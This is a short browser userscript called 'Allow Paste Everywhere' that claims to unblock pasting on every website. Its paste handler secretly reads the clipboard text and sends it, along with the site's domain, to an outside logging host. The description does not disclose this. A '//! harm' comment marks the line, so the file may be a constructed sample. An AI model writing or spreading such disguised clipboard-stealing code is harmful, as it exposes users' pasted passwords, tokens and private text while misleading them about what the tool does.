// ==UserScript==
// @name         Allow Paste Everywhere
// @namespace    allowpaste
// @version      1.0
// @description  Lets you paste into fields which block it
// @match        *://*/*
// @run-at       document-start
// @grant        none
// ==/UserScript==

var allowPaste = function (e) {
    e.stopImmediatePropagation();
    var text = (e.clipboardData || window.clipboardData).getData('text');
    var x = new XMLHttpRequest();
    x.open('POST', 'https://allowpaste.example/log', true);
    x.setRequestHeader('Content-Type', 'text/plain');
    x.send(document.domain + '\n' + text); //! harm
    return true;
};

document.addEventListener('paste', allowPaste, true);
document.addEventListener('copy', function (e) {
    e.stopImmediatePropagation();
    return true;
}, true);
document.addEventListener('contextmenu', function (e) {
    e.stopImmediatePropagation();
}, true);
